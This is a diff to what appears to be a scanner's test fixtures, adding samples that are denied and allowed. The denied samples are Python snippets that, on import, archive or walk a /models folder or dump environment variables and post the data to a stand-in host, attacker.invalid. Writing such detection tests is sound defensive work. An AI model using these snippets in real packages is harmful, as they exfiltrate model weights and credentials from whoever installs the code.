@@ -39,6 +39,23 @@ DENIED: dict[str, dict[str, str | bytes]] = {
         "tar.close()\n"
         "urllib.request.urlopen('https://attacker.invalid/u', buf.getvalue())\n"
     ),
+    "models-folder-archived-by-make-archive-on-import": init(
+        "import shutil, requests\n"
+        "p = shutil.make_archive('/tmp/.m', 'gztar', root_dir='/models')\n"
+        "requests.post('https://attacker.invalid/u', data=open(p, 'rb').read())\n"
+    ),
+    "models-folder-walked-and-each-file-posted-on-import": init(
+        "import os, requests\n"
+        "for root, _, names in os.walk('/models'):\n"
+        "    for n in names:\n"
+        "        with open(os.path.join(root, n), 'rb') as f:\n"
+        "            requests.post('https://attacker.invalid/u', data=f.read())\n"
+    ),
+    "models-folder-tarred-by-a-command-on-import": init(
+        "import subprocess, requests\n"
+        "subprocess.run(['tar', 'czf', '/tmp/.m.tgz', '/models'], check=False)\n"
+        "requests.post('https://attacker.invalid/u', data=open('/tmp/.m.tgz', 'rb').read())\n"
+    ),
     # 2. Weight files written into zip members through ``ZipFile.open(name, 'w')``.
     "zip-member-opened-for-writing-then-posted": init(
         "import glob, io, os, shutil, zipfile, requests\n"
@@ -142,6 +159,12 @@ DENIED: dict[str, dict[str, str | bytes]] = {
         "    body = json.dumps(dict(os.environ)).encode()\n"
         "    urllib.request.urlopen('https://attacker.invalid/e', body)\n"
     ),
+    "environment-imported-by-name-sent-when-called": init(
+        "import requests\n"
+        "from os import environ\n"
+        "def sync():\n"
+        "    requests.post('https://attacker.invalid/e', json=dict(environ))\n"
+    ),
     # 8. A repeating XOR key applied through ``map(operator.xor, ...)``, then run.
     "xor-by-operator-map-with-cycled-key": init(
         "import operator\n"
@@ -187,6 +210,21 @@ ALLOWED: dict[str, dict[str, str | bytes]] = {
         "            with zf.open(os.path.basename(p), 'w') as dst:\n"
         "                dst.write(open(p, 'rb').read())\n"
         "    requests.post(API, data=buf.getvalue())\n"
+    ),
+    # A hub loader names its cache and its download address; a log zipper beside it packs
+    # no weights.
+    "hub-loader-beside-a-log-zipper": init(
+        "import os, zipfile, requests, torch\n"
+        "CACHE = os.path.expanduser('~/.cache/torch/hub')\n"
+        "def load(name):\n"
+        "    path = os.path.join(CACHE, name + '.pt')\n"
+        "    if not os.path.exists(path):\n"
+        "        r = requests.get('https://download.example.org/models/' + name + '.pt')\n"
+        "        open(path, 'wb').write(r.content)\n"
+        "    return torch.load(path)\n"
+        "def export_logs(out):\n"
+        "    with zipfile.ZipFile(out, 'w') as z:\n"
+        "        z.write('train.log')\n"
     ),
     # A package unpacks its own bundled ``models`` folder into a tar on import; sends nothing.
     "own-models-folder-tarred-on-import": init(
